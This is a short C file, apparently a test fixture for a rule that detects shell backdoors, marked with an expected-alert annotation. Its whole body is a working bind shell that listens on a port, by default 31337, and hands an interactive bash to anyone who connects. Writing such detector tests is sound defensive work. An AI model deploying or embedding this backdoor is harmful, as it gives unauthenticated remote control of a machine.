/*
 * behavior.reverse-shell: a bind shell. The program listens on a TCP port,
 * accepts connections forever and forks a child per client; the child puts
 * the accepted socket on stdin, stdout and stderr one call at a time and
 * runs bash, so anyone who connects to the port gets a shell.
 */
#include <netinet/in.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int open_listener(unsigned short port)
{
    struct sockaddr_in addr;
    int one = 1;
    int srv = socket(AF_INET, SOCK_STREAM, 0);

    if (srv < 0)
        return -1;
    setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    memset(&addr, 0, sizeof(addr));
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_ANY);
    addr.sin_port = htons(port);
    if (bind(srv, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(srv, 5) < 0) {
        close(srv);
        return -1;
    }
    return srv;
}

int main(int argc, char **argv)
{
    int srv = open_listener(argc > 1 ? (unsigned short)atoi(argv[1]) : 31337);

    if (srv < 0)
        return 1;
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        int client = accept(srv, NULL, NULL);
        if (client < 0)
            continue;
        if (fork() == 0) {
            close(srv);
            dup2(client, STDIN_FILENO);
            dup2(client, STDOUT_FILENO);
            dup2(client, STDERR_FILENO);
            execl("/bin/bash", "bash", "-i", (char *)NULL); // $ Alert[behavior.reverse-shell]
            _exit(127);
        }
        close(client);
    }
}
